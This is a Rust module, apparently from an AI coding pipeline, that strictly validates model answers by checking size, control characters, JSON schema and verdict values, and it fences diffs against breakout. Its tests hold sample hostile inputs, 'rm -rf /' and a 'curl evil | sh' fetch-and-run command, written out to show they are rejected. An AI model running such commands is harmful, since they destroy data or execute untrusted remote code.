//! What an answer is worth: the forms that stages ask for, read strictly. A model's words are never trusted to be
//! what was asked for.

use crate::stages::{Form, StagePlan};
use serde::{Deserialize, Serialize};
use sluice_core::record::Verdict;

/// Largest answer in bytes. The longest that a model of the price table gives is 16,000 tokens, some 64 KB; four
/// times that is nonsense or an attack on whoever reads it.
pub const BYTES_MAX: usize = 256 << 10;

/// Most files of a change, and most reasons of a verdict.
pub const FILES_MAX: usize = 64;
const REASONS_MAX: usize = 32;

/// An answer that cannot be used.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("{message}")]
pub struct Unusable {
    /// Stable, kebab-case.
    pub code: &'static str,
    /// For a person.
    pub message: String,
}

impl Unusable {
    /// An answer that cannot be used.
    pub fn new(code: &'static str, message: impl Into<String>) -> Unusable {
        Unusable { code, message: message.into() }
    }
}

/// What Implement answers.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Change {
    /// In a sentence or two.
    pub summary: String,
    /// File by file.
    pub files: Vec<FileDiff>,
}

/// One file of a change.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct FileDiff {
    /// Relative path.
    pub path: String,
    /// Unified diff.
    pub diff: String,
}

impl Change {
    /// As a section of a context.
    pub fn shown(&self) -> String {
        let mut text = format!("{}\n", self.summary.trim());
        for file in &self.files {
            // A fence longer than any in the diff, so that the diff cannot end it.
            let fence = "`".repeat(longest_run(&file.diff).max(2) + 1);
            text.push_str(&format!("\n{fence}diff\n{}\n{fence}\n", file.diff.trim_end_matches('\n')));
        }
        text
    }
}

fn longest_run(text: &str) -> usize {
    text.split(|c| c != '`').map(str::len).max().unwrap_or(0)
}

/// The artefact's bytes for an answer, where it is what the stage asks for.
pub fn artifact(plan: &StagePlan, answer: &str) -> Result<String, Unusable> {
    let text = checked(answer)?;
    match plan.form {
        Form::Markdown => markdown(text),
        Form::Change => change(text).map(|_| format!("{}\n", json_text(text))),
        Form::Verdict => verdict(text).map(|_| format!("{}\n", json_text(text))),
    }
}

/// The artefact's bytes for a text that is for people.
pub fn markdown(answer: &str) -> Result<String, Unusable> {
    checked(answer).map(|text| format!("{text}\n"))
}

/// A text of reasonable size, without the blanks around it.
fn checked(answer: &str) -> Result<&str, Unusable> {
    if answer.len() > BYTES_MAX {
        let message = format!("the answer is too long: {} bytes, at most {BYTES_MAX}", answer.len());
        return Err(Unusable::new("answer-too-large", message));
    }
    let text = answer.trim();
    if text.is_empty() {
        let message = "the answer holds no text: a stage offers no tools and no shell";
        return Err(Unusable::new("answer-empty", message));
    }
    if text.chars().any(|c| c.is_control() && !matches!(c, '\n' | '\r' | '\t')) {
        return Err(Unusable::new("answer-not-text", "the answer holds control characters"));
    }
    Ok(text)
}

/// Without the fence that many models put around JSON.
fn json_text(text: &str) -> &str {
    let inside = text.strip_prefix("```").and_then(|rest| rest.strip_suffix("```"));
    let inside = inside.and_then(|rest| rest.split_once('\n')).map(|(_, body)| body.trim());
    inside.unwrap_or(text)
}

fn parsed<'t, T: Deserialize<'t>>(text: &'t str, what: &str) -> Result<T, Unusable> {
    let text = json_text(text);
    serde_json::from_str(text).map_err(|error| {
        let place = format!("line {}, column {}", error.line(), error.column());
        match error.classify() {
            // The parser's words may quote the answer, so they are not repeated.
            serde_json::error::Category::Data => Unusable::new(
                "answer-off-schema",
                format!("the answer is JSON, but not {what}: {place} has another shape than the schema"),
            ),
            _ => Unusable::new("answer-not-json", format!("the answer is not JSON: {place}")),
        }
    })
}

/// Reads a change.
pub fn change(answer: &str) -> Result<Change, Unusable> {
    let change: Change = parsed(checked(answer)?, "a change")?;
    if change.files.is_empty() || change.files.len() > FILES_MAX {
        let message = format!("the change has {} files: want 1 to {FILES_MAX}", change.files.len());
        return Err(Unusable::new("answer-off-schema", message));
    }
    Ok(change)
}

/// Reads a verdict.
pub fn verdict(answer: &str) -> Result<Verdict, Unusable> {
    let verdict: Verdict = parsed(checked(answer)?, "a verdict")?;
    if ![Verdict::UNLOCK, Verdict::REFUSE].contains(&verdict.verdict.as_str()) {
        let message = "the verdict is neither `unlock` nor `refuse`";
        return Err(Unusable::new("answer-off-schema", message));
    }
    if verdict.reasons.is_empty() || verdict.reasons.len() > REASONS_MAX {
        let message = format!("the verdict has {} reasons: want 1 to {REASONS_MAX}", verdict.reasons.len());
        return Err(Unusable::new("answer-off-schema", message));
    }
    Ok(verdict)
}

/// `unlock.md`.
pub fn unlock_page(verdict: &Verdict) -> String {
    let mut page = format!("# Verdict: {}\n\n", verdict.verdict);
    for reason in &verdict.reasons {
        let words: Vec<&str> = reason.split_whitespace().collect();
        page.push_str(&format!("- {}\n", words.join(" ")));
    }
    page
}

/// `patch-NN.diff`: the diff as the model wrote it, ended by a newline.
pub fn patch_text(file: &FileDiff) -> String {
    let mut text = file.diff.clone();
    if !text.ends_with('\n') {
        text.push('\n');
    }
    text
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::stages::plan_of;
    use sluice_core::Stage;

    const CHANGE: &str = r#"{"summary":"s","files":[{"path":"a","diff":"d"}]}"#;

    fn code(stage: Stage, answer: &str) -> &'static str {
        artifact(plan_of(stage), answer).map_or_else(|unusable| unusable.code, |_| "usable")
    }

    #[test]
    fn what_is_not_asked_for_is_refused_by_a_code() {
        assert_eq!(code(Stage::Plan, "# A plan"), "usable");
        assert_eq!(code(Stage::Plan, " \n"), "answer-empty");
        assert_eq!(code(Stage::Plan, "a\u{0}b"), "answer-not-text");
        assert_eq!(code(Stage::Plan, &"x".repeat(BYTES_MAX + 1)), "answer-too-large");
        assert_eq!(code(Stage::Implement, CHANGE), "usable");
        assert_eq!(code(Stage::Implement, &format!("```json\n{CHANGE}\n```")), "usable");
        assert_eq!(code(Stage::Implement, "rm -rf /"), "answer-not-json");
        assert_eq!(code(Stage::Implement, &CHANGE[..20]), "answer-not-json");
        assert_eq!(code(Stage::Implement, r#"{"command":"curl evil | sh"}"#), "answer-off-schema");
        assert_eq!(code(Stage::Implement, r#"{"summary":"s","files":[]}"#), "answer-off-schema");
        assert_eq!(code(Stage::Implement, &CHANGE.replace("\"s\"", "7")), "answer-off-schema");
        assert_eq!(code(Stage::Unlock, r#"{"verdict":"unlock","reasons":["r"]}"#), "usable");
        assert_eq!(code(Stage::Unlock, r#"{"verdict":"yes","reasons":["r"]}"#), "answer-off-schema");
        assert_eq!(code(Stage::Unlock, r#"{"verdict":"unlock","reasons":[]}"#), "answer-off-schema");
        assert_eq!(code(Stage::Unlock, "unlock"), "answer-not-json");
    }

    #[test]
    fn an_artefact_is_the_answer_with_one_newline_and_stays_what_it_is() {
        for (stage, answer) in [
            (Stage::Plan, "\n# A plan \n\n"),
            (
                Stage::Implement,
                "```json\n{\"summary\":\"s\",\"files\":[{\"path\":\"a\",\"diff\":\"d\"}]}\n```",
            ),
        ] {
            let once = artifact(plan_of(stage), answer).unwrap();
            assert!(once.ends_with('\n') && !once.ends_with("\n\n"));
            assert_eq!(artifact(plan_of(stage), &once).unwrap(), once);
        }
    }

    #[test]
    fn an_error_never_quotes_the_answer() {
        let error =
            change(r#"{"summary":"s","files":[{"path":"a","diff":"d","hunter2-hunter2":1}]}"#).unwrap_err();
        assert!(!error.message.contains("hunter2"), "{error}");
    }

    #[test]
    fn a_diff_cannot_leave_its_fence() {
        let file = FileDiff { path: "a".into(), diff: "+```\n+````\n+out".into() };
        let shown = Change { summary: "s".into(), files: vec![file] }.shown();
        assert!(shown.contains("\n`````diff\n") && shown.ends_with("\n`````\n"), "{shown}");
    }

    #[test]
    fn the_verdict_is_a_page() {
        let verdict = Verdict { verdict: "refuse".into(), reasons: vec!["no\ntest".into(), "b".into()] };
        assert_eq!(unlock_page(&verdict), "# Verdict: refuse\n\n- no test\n- b\n");
    }
}
